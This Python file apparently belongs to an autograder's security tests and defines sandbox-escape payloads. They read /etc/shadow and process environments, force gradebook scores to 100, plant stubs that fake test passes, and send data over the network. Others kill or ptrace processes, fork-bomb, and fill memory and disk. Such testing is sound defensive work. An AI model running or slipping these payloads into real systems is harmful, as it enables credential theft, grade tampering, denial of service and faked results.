"""Ways out of the sandbox: files, peers, the gradebook, processes, memory, the network, time.

``@ROOT@`` stands for the course's folder and ``@PORT@`` for a listening port: an attacker may know both.
"""

from __future__ import annotations

from autograde.grading.attacks import Attack, everywhere

TAIL = "\ndef NAME(*a, **k): return 0\n"
READ = """
import os, glob
def show(p):
    try: print('READ', p, open(p, 'rb').read()[:4000])
    except OSError as e: print(p, e)
PROC = ['/proc/1/root@ROOT@', '/proc/self/root@ROOT@', '/proc/self/cwd/../..']
for base in ['@ROOT@', '..', '../..', os.path.expanduser('~root'), *PROC]:
    try: print('LIST', os.listdir(base))
    except OSError as e: print(e)
    for rel in ('source/07_bait/bait.ipynb', 'gradebook.db', 'submitted/honest/07_bait/bait.ipynb'):
        show(base + '/' + rel)
for p in ['/etc/shadow', '/root/.bash_history', *glob.glob('/proc/[0-9]*/environ'), *glob.glob('/proc/[0-9]*/cmdline')]:
    show(p)
"""
WRITE = """
import os, sqlite3, site, sys
targets = ['@ROOT@/gradebook.db', '@ROOT@/evil', sys.prefix + '/evil.pth', '/etc/evil', '/usr/evil', '/var/tmp/evil',
           '/dev/sda', '/proc/sys/kernel/core_pattern', '/proc/1/oom_score_adj', sys.base_prefix + '/lib/evil.py']
for p in targets:
    try:
        os.makedirs(os.path.dirname(p), exist_ok=True); open(p, 'a').write('evil'); print('WROTE', p)
    except OSError as e: print(p, e)
try:
    db = sqlite3.connect('@ROOT@/gradebook.db'); db.execute('update grade set auto_score = 100')
    db.execute('create trigger t after update on grade begin update grade set auto_score = 100; end')
    db.commit(); print('WROTE db')
except Exception as e: print(e)
for f in (os.chmod, os.unlink, os.truncate):
    for p in ('@ROOT@/gradebook.db', '@ROOT@/source/07_bait/bait.ipynb'):
        try: f(p, 0o777) if f is not os.unlink else f(p); print('WROTE', f, p)
        except OSError as e: print(e)
os.makedirs('genmodels', exist_ok=True)
for n in ('torch.py', 'genmodels/__init__.py', 'sitecustomize.py'):
    open(n, 'w').write('allclose = lambda *a, **k: True')
"""
DAEMON = """
import os, time, subprocess, sys
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for fd in range(200):
                try: os.close(fd)
                except OSError: pass
            t = time.time()
            while time.time() - t < 600:
                try: open('/dev/shm/beacon', 'a').write('x'); open('/tmp/beacon', 'a').write('x')
                except OSError: pass
                time.sleep(0.05)
        os._exit(0)
subprocess.Popen(['sleep', '600'], start_new_session=True)
"""
KILL = """
import os, signal, resource, ctypes
def attempt(f, *a):
    try: print('DID', f, a, f(*a))
    except Exception as e: print(e)
for pid in [os.getppid(), 1, -1, @PID@, *[int(p) for p in os.listdir('/proc') if p.isdigit()]]:
    if pid in (os.getpid(), -os.getpid()): continue
    for s in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP): attempt(os.kill, pid, s)
    if pid > 1:
        attempt(resource.prlimit, pid, resource.RLIMIT_CPU, (1, 1)); attempt(os.setpriority, os.PRIO_PROCESS, pid, 19)
libc = ctypes.CDLL(None, use_errno=True)
for pid in (os.getppid(), 1, @PID@):
    print('ptrace', libc.ptrace(16, pid, 0, 0), libc.process_vm_readv(pid, 0, 0, 0, 0, 0))
print('namespaces', libc.unshare(0x10000000), libc.setns(0, 0), libc.mount(b'none', b'/tmp', b'tmpfs', 0, b''))
"""
NET = """
import socket, ctypes, os
def attempt(f):
    try: print('SENT', f())
    except Exception as e: print(type(e).__name__, e)
def tcp(host):
    s = socket.socket(); s.settimeout(1); s.connect((host, @PORT@)); s.sendall(b'grades'); return host
def udp(host):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'grades', (host, @PORT@)); return host
for host in ('127.0.0.1', '::1', '10.0.0.1', '8.8.8.8'):
    attempt(lambda: tcp(host)); attempt(lambda: udp(host))
def unix(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); s.connect(path); s.sendall(b'grades'); return path
def pair(path):
    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.connect(path); a.send(b'grades'); return path
for path in ('@ROOT@/door', '\\0autograde-door', '/run/dbus/system_bus_socket', '/dev/log'):
    attempt(lambda: unix(path)); attempt(lambda: pair(path))
attempt(lambda: socket.getaddrinfo('example.org', 80))
attempt(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))
attempt(lambda: os.system('curl -m 1 http://127.0.0.1:@PORT@/'))
libc = ctypes.CDLL(None, use_errno=True)
print('io_uring', libc.syscall(425, 8, 0), 'shmget', libc.shmget(4242, 4096, 0o1666))
print('keyctl', libc.syscall(250, 0, -3, 0))
"""
SHM = """
import os
from multiprocessing import shared_memory
for i in range(5):
    try: s = shared_memory.SharedMemory(create=True, size=1 << 20, name=f'evil{i}'); s.buf[:4] = b'evil'; s.close()
    except Exception as e: print(e)
for p in ('/dev/shm', '/tmp', '/var/tmp', '/dev/mqueue'):
    try: print(os.listdir(p)); open(p + '/evil-left-behind', 'w').write('x' * 1000)
    except OSError as e: print(e)
"""
MEMORY_SHARED = """
import mmap
def NAME(*a, **k):
    kept = []
    while True:
        kept.append(mmap.mmap(-1, 64 << 20))
        for at in range(0, 64 << 20, 4096): kept[-1][at] = 1
"""
MEMORY = "\ndef NAME(*a, **k):\n    b = []\n    while True: b.append(bytearray(b'x' * (64 << 20)))\n"
MEMORY_MANY = """
import os, time
def NAME(*a, **k):
    for _ in range(12):
        if os.fork() == 0:
            b = bytearray(b'x') * (600 << 20); time.sleep(60); os._exit(0)
    time.sleep(60)
"""
BOMB = "\nimport os\ndef NAME(*a, **k):\n    while True:\n        try: os.fork()\n        except OSError: pass\n"
DISK = """
import os
def NAME(*a, **k):
    for i in range(100):
        with open(f'/tmp/fill{i}' if os.access('/tmp', os.W_OK) else f'fill{i}', 'wb') as f:
            for _ in range(100): f.write(b'x' * (2 << 20))
"""
STUBBORN = """
import time, signal
def NAME(*a, **k):
    while True:
        try:
            signal.signal(signal.SIGINT, signal.SIG_IGN)
            while True: time.sleep(1)
        except BaseException: pass
"""
LATE = """
import threading, time, os
def later():
    time.sleep(2)
    import builtins; builtins.AssertionError = ValueError
    os.write(1, b'all tests passed\\n')
threading.Thread(target=later, daemon=True).start()
time.time = time.monotonic = time.perf_counter = lambda: 0.0
def NAME(*a, **k): time.sleep(0.5); return None
"""
SUID = """
import os, subprocess
for c in ('sudo -n id', 'su -c id', 'unshare -r id', 'bwrap --ro-bind / / id', 'chroot /proc/1/root ls', 'ps aux'):
    print(c, subprocess.run(c, shell=True, capture_output=True, text=True, timeout=10).stdout[:500])
try: os.setuid(0); print('ROOT', os.getuid())
except OSError as e: print(e)
"""

ATTACKS = [
    Attack("read-the-course", "files", "hidden tests, peers, gradebook, environments", everywhere(READ + TAIL)),
    Attack("write-the-course", "gradebook", "gradebook rows and triggers, start-up files", everywhere(WRITE + TAIL)),
    Attack("daemon", "processes", "processes that outlive the grading", everywhere(DAEMON + TAIL)),
    Attack("kill-the-grader", "processes", "signals, ptrace, limits, namespaces", everywhere(KILL + TAIL)),
    Attack("send-away", "network", "TCP, UDP, unix, netlink, name service, io_uring", everywhere(NET + TAIL)),
    Attack("leave-behind", "processes", "shared memory and files for the next student", everywhere(SHM + TAIL)),
    Attack("out-of-shared-memory", "memory", "shared pages", {"facts": MEMORY_SHARED.replace("NAME", "facts")}),
    Attack("out-of-memory", "memory", "one process takes everything", {"double": MEMORY.replace("NAME", "double")}),
    Attack(
        "many-in-memory", "memory", "twelve processes share the taking", {"facts": MEMORY_MANY.replace("NAME", "facts")}
    ),
    Attack("fork-bomb", "memory", "processes without end", {"lse": BOMB.replace("NAME", "lse")}),
    Attack("fill-the-disk", "memory", "20 GB of files", {"draws": DISK.replace("NAME", "draws")}),
    Attack("stubborn-loop", "processes", "ignores every interrupt", {"double": STUBBORN.replace("NAME", "double")}),
    Attack("later", "processes", "acts when the test has begun; stops the clock", everywhere(LATE)),
    Attack("privileges", "processes", "set-uid programs and shells", everywhere(SUID + TAIL)),
]
